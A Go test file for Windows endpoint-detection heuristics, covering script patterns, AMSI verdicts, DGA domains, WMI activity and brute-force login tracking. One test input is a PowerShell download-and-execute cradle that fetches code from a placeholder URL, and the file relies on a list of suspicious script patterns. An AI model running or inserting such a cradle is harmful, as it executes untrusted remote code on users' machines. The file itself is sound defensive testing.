package heuristics

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestIsSuspiciousMemoryProtection(t *testing.T) {
	assert.True(t, IsSuspiciousMemoryProtection(0x40))
	assert.True(t, IsSuspiciousMemoryProtection(0x80))
	assert.False(t, IsSuspiciousMemoryProtection(0x04)) // PAGE_READWRITE
}

func TestIsRemoteThreadCreation(t *testing.T) {
	assert.True(t, IsRemoteThreadCreation(400, 500))
	assert.False(t, IsRemoteThreadCreation(400, 400))
	assert.False(t, IsRemoteThreadCreation(0, 500))
}

func TestIsSuspiciousImagePath(t *testing.T) {
	assert.True(t, IsSuspiciousImagePath(`C:\Users\bob\AppData\Local\Temp\evil.dll`))
	assert.True(t, IsSuspiciousImagePath(`C:\ProgramData\svc.dll`))
	assert.False(t, IsSuspiciousImagePath(`C:\Windows\System32\kernel32.dll`))
}

func TestMatchScriptPatternFindsIex(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://x')"
	match := MatchScriptPattern(script)
	assert.Equal(t, "iex", match)
}

func TestEveryScriptPatternTriggersSuspicious(t *testing.T) {
	for _, pattern := range SuspiciousScriptPatterns {
		assert.True(t, IsSuspiciousScript("prefix "+pattern+" suffix"), "pattern %q should be suspicious", pattern)
	}
}

func TestBenignScriptNotSuspicious(t *testing.T) {
	assert.False(t, IsSuspiciousScript("Get-Process | Where-Object { $_.CPU -gt 10 }"))
}

func TestClassifyAmsiScan(t *testing.T) {
	assert.Equal(t, AmsiVerdictBypass, ClassifyAmsiScan(0, "powershell.exe", 0))
	assert.Equal(t, AmsiVerdictMalwareDenied, ClassifyAmsiScan(100, "word.exe", 32768))
	assert.Equal(t, AmsiVerdictAdminBlocked, ClassifyAmsiScan(100, "word.exe", 0x4500))
	assert.Equal(t, AmsiVerdictClean, ClassifyAmsiScan(100, "word.exe", 1))
}

func TestShannonEntropyKnownValues(t *testing.T) {
	// Per-character Shannon entropy of "google" (g:2,o:2,l:1,e:1 over 6
	// chars) works out to ~1.92 bits; a random-looking 12-char string with
	// no repeats reaches log2(12) ~= 3.58 bits, above 3.5.
	assert.InDelta(t, 1.92, ShannonEntropy("google"), 0.02)
	assert.Greater(t, ShannonEntropy("a1b2c3d4e5f6"), 3.5)
}

func TestIsDgaSuspiciousDomain(t *testing.T) {
	assert.True(t, IsDgaSuspiciousDomain("qz7x9n3mp2k4a8b1c6.example.com"))
	assert.False(t, IsDgaSuspiciousDomain("microsoft.com"))
}

func TestIsSuspiciousWmiActivity(t *testing.T) {
	assert.True(t, IsSuspiciousWmiActivity(`root\cimv2`, "Win32_Process.Create", ""))
	assert.True(t, IsSuspiciousWmiActivity(`root\subscription`, "SELECT * FROM __InstanceCreationEvent", ""))
	assert.True(t, IsSuspiciousWmiActivity(`root\cimv2`, "SELECT * FROM Win32_Process", "192.168.1.50"))
	assert.False(t, IsSuspiciousWmiActivity(`root\cimv2`, "SELECT * FROM Win32_Process", "localhost"))
}

func TestIsSuspiciousClrAssembly(t *testing.T) {
	assert.True(t, IsSuspiciousClrAssembly(AssemblyFlagDynamic, "MyAssembly"))
	assert.True(t, IsSuspiciousClrAssembly(0, ""))
	assert.False(t, IsSuspiciousClrAssembly(0, "System.Core"))
}

func TestIsObfuscatedClrMethod(t *testing.T) {
	assert.True(t, IsObfuscatedClrMethod("ab"))
	assert.True(t, IsObfuscatedClrMethod("a$%^&*()"))
	assert.False(t, IsObfuscatedClrMethod("ProcessOrder"))
}

func TestHasPrivilegeEscalationRight(t *testing.T) {
	assert.True(t, HasPrivilegeEscalationRight([]string{"SeShutdownPrivilege", "SeDebugPrivilege"}))
	assert.False(t, HasPrivilegeEscalationRight([]string{"SeShutdownPrivilege"}))
}

func TestIsAutoStartService(t *testing.T) {
	assert.True(t, IsAutoStartService(ServiceAutoStart))
	assert.False(t, IsAutoStartService(0x3))
}

func TestIsRemoteInteractiveLogon(t *testing.T) {
	assert.True(t, IsRemoteInteractiveLogon(LogonTypeRemoteInteractive))
	assert.False(t, IsRemoteInteractiveLogon(2))
}

func TestBruteForceTrackerFlagsFifthFailureWithinWindow(t *testing.T) {
	tracker := NewBruteForceTracker(60*time.Second, 5)
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	tracker.now = func() time.Time { return base }

	for i := 0; i < 4; i++ {
		flagged := tracker.recordFailureAt("admin", base.Add(time.Duration(i)*time.Second))
		require.False(t, flagged, "attempt %d should not flag yet", i+1)
	}
	flagged := tracker.recordFailureAt("admin", base.Add(4*time.Second))
	assert.True(t, flagged)
}

func TestBruteForceTrackerDoesNotFlagFourWithinWindow(t *testing.T) {
	tracker := NewBruteForceTracker(60*time.Second, 5)
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

	for i := 0; i < 4; i++ {
		flagged := tracker.recordFailureAt("admin", base.Add(time.Duration(i)*time.Second))
		assert.False(t, flagged)
	}
}

func TestBruteForceTrackerWindowExpires(t *testing.T) {
	tracker := NewBruteForceTracker(60*time.Second, 5)
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

	for i := 0; i < 4; i++ {
		tracker.recordFailureAt("admin", base.Add(time.Duration(i)*time.Second))
	}
	// Fifth failure arrives well outside the window -- the earlier four
	// should have aged out, so this alone should not flag.
	flagged := tracker.recordFailureAt("admin", base.Add(5*time.Minute))
	assert.False(t, flagged)
}
